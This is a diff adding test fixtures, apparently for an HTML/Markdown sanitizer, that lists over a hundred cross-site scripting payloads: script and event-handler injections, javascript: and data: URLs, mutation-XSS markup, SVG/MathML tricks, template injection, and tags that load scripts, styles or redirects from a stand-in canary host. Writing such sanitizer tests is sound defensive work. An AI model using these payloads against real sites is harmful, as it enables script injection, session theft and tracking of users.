@@ -41,3 +41,153 @@ export const HOSTILE_VALUES: readonly string[] = [
   '<'.repeat(10_000),
   '</main></body></html><script>alert(1)</script>',
 ];
+
+/** Stands in a payload for code that runs without a quotation mark, and for the address of a server that nobody may ask. */
+const RUN = 'window.__pwned=1';
+const CANARY = 'http://canary.example';
+
+/** Texts with the address of the canary that listens. */
+export function aimedAt(origin: string, texts: readonly string[]): readonly string[] {
+  return texts.map((text) => text.replaceAll(CANARY, origin));
+}
+
+/** Encoded in base64, for `data:` addresses. */
+const PAGE_IN_BASE64 = Buffer.from(`<script>${RUN}</script>`).toString('base64');
+
+/** Markdown and HTML, for pages and slots: whatever becomes of it, nothing may run, and nothing outside of its place may change. */
+export const HOSTILE_TEXTS: readonly string[] = [
+  // Scripts and handlers
+  `<script>${RUN}</script>`,
+  `<SCRIPT\t>${RUN}</SCRIPT\t>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<script>${RUN}`,
+  `<<script>${RUN}//<</script>`,
+  `</script><script>${RUN}</script>`,
+  `<script/x>${RUN}</script>`,
+  `<script src="${CANARY}/a.js"></script>`,
+  `<script type="module">${RUN}</script>`,
+  `text\n\n<script>\n${RUN}\n</script>\n\ntext`,
+  `<img src=x onerror=${RUN}>`,
+  `<img src=x onerror\n=\n${RUN}>`,
+  `<img/src=x/onerror=${RUN}>`,
+  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
+  `<img src="x\" onerror="${RUN}">`,
+  `<img src=\`x\`onerror=${RUN}>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<audio src=x onerror=${RUN}></audio>`,
+  `<body onload=${RUN}>`,
+  `<details open ontoggle=${RUN}>x</details>`,
+  `<p onmouseover=${RUN}>x</p>`,
+  `<b tabindex=0 autofocus onfocus=${RUN}>x</b>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<marquee onstart=${RUN}>x</marquee>`,
+  `<p style="animation: x 1ms" onanimationstart=${RUN}>x</p><style>@keyframes x {}</style>`,
+  `<x contenteditable onblur=${RUN}>x</x>`,
+  // Addresses
+  `[x](javascript:${RUN})`,
+  `[x](JaVaScRiPt:${RUN})`,
+  `[x](<java\tscript:${RUN}>)`,
+  `[x](java&Tab;script:${RUN})`,
+  `[x](javascript&colon;${RUN})`,
+  `[x](&#106;&#x61;vascript:${RUN})`,
+  `[x](&#1;javascript:${RUN})`,
+  `[x](\\javascript:${RUN})`,
+  `[x][y]\n\n[y]: javascript:${RUN}`,
+  `<javascript:${RUN}>`,
+  `![x](javascript:${RUN})`,
+  `[x](data:text/html;base64,${PAGE_IN_BASE64})`,
+  `[x](vbscript:${RUN})`,
+  `[x](javascript:${RUN} "title")`,
+  `[x](java%0ascript:${RUN})`,
+  `<a href="javascript:${RUN}">x</a>`,
+  `<a href=" &#14; javascript:${RUN}">x</a>`,
+  `<a href="jav&#x0A;ascript:${RUN}">x</a>`,
+  `<a href=javascript&#0000058${RUN}>x</a>`,
+  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
+  `<form action="javascript:${RUN}"><button>x</button></form>`,
+  `<button formaction="javascript:${RUN}">x</button>`,
+  `<blockquote cite="javascript:${RUN}">x</blockquote>`,
+  // What Markdown puts into attributes
+  `[x](y "\" onmouseover=${RUN} x=\"")`,
+  `[x](y '" onmouseover="${RUN}')`,
+  `[x](y"onmouseover="${RUN})`,
+  `![" onerror="${RUN}](x)`,
+  `![x](x" onerror="${RUN})`,
+  `\`\`\`js" onmouseover="${RUN}\nx\n\`\`\``,
+  `\`\`\`\n</code></pre><script>${RUN}</script>\n\`\`\``,
+  `\`</code><script>${RUN}</script>\``,
+  `x[^"><script>${RUN}</script>]\n\n[^"><script>${RUN}</script>]: y`,
+  `# x" onclick="${RUN}\n\n# <img src=x onerror=${RUN}>`,
+  `| x |\n| :-" onclick="${RUN} |\n| <script>${RUN}</script> |`,
+  `> [!NOTE] <script>${RUN}</script>\n> <img src=x onerror=${RUN}>`,
+  `- [x] <input onfocus=${RUN} autofocus>`,
+  // Drawings and formulas
+  `<svg onload=${RUN}></svg>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
+  `<svg><set attributeName=href to="javascript:${RUN}"></set></svg>`,
+  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"></use></svg>`,
+  `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
+  `<math href="javascript:${RUN}">x</math>`,
+  // Markup that means another thing when it is read again
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
+  `<svg><p><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;"></svg>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<p title="</noscript><img src=x onerror=${RUN}>"><noscript>`,
+  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
+  `<table><a><table><style><!--</style></table></a><img src=x onerror=${RUN}>`,
+  `<select><style></select><img src=x onerror=${RUN}></style>`,
+  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
+  `<textarea></div></main><img src=x onerror=${RUN}></textarea>`,
+  `<template><img src=x onerror=${RUN}></template><template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
+  `<!--><img src=x onerror=${RUN}>-->`,
+  `<!--x--!><img src=x onerror=${RUN}>`,
+  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
+  `<?xml x><img src=x onerror=${RUN}>?>`,
+  `&lt;img src=x onerror=${RUN}&gt;`,
+  `\\<img src=x onerror=${RUN}>`,
+  // What would bring something else into the page, or take the page away
+  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+  `<iframe src="javascript:parent.${RUN}"></iframe>`,
+  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
+  `<embed src="javascript:${RUN}">`,
+  `<base href="${CANARY}/"><a href="x">x</a>`,
+  `<meta http-equiv="refresh" content="0;url=${CANARY}/">`,
+  `<link rel="stylesheet" href="${CANARY}/x.css">`,
+  `<link rel="preload" as="image" href="${CANARY}/x.png">`,
+  `<style>@import "${CANARY}/x.css"; * { background: url(${CANARY}/y) }</style>`,
+  `<p style="background: url(${CANARY}/x)">x</p>`,
+  `<table background="${CANARY}/x"><tr><td background="${CANARY}/y">x</td></tr></table>`,
+  `<input type=image src="${CANARY}/x">`,
+  `<a href="x" ping="${CANARY}/x">x</a>`,
+  // What would leave its place
+  '</div></main></body></html><p>x</p>',
+  '</p></li></ul></td></tr></table></section></article></div></div><h1>x</h1>',
+  '<div><div><div><table><tr><td><ul><li>',
+  '<slot name="content"></slot><slot name="hours"></slot>',
+  '<b><i><s><u><a href="x"><code>',
+  // Templates
+  '{{ partner.name }} \\{{ page.nope }}',
+  '<template each="x in data">{{ x }}</template>',
+  '<template if="partner.name"><script>window.__pwned=1</script></template>',
+  '${' + RUN + '} <%= ' + RUN + ' %> {% ' + RUN + ' %}',
+  // Depth
+  `${'<b>'.repeat(400)}<script>${RUN}</script>`,
+  `${'> '.repeat(90)}<script>${RUN}</script>`,
+  `${'*'.repeat(300)}<script>${RUN}</script>${'*'.repeat(300)}`,
+];
+
+/** Texts that show something from elsewhere, which terms have to allow. */
+export const FETCHING_TEXTS: readonly string[] = [
+  `![x](${CANARY}/x.png)`,
+  `![x][y]\n\n[y]: ${CANARY}/x.png`,
+  `<img src="${CANARY}/x.png">`,
+  `<IMG SRC = '${CANARY.replace('http', 'HtTp')}/x.png'>`,
+  `<img src="&#104;ttp${CANARY.slice(4)}/x.png">`,
+  `![x](${CANARY.slice(5)}/x.png)`,
+  `<img src="${CANARY.slice(5)}/x.png">`,
+  `<img src="/\\${CANARY.slice(7)}/x.png">`,
+];
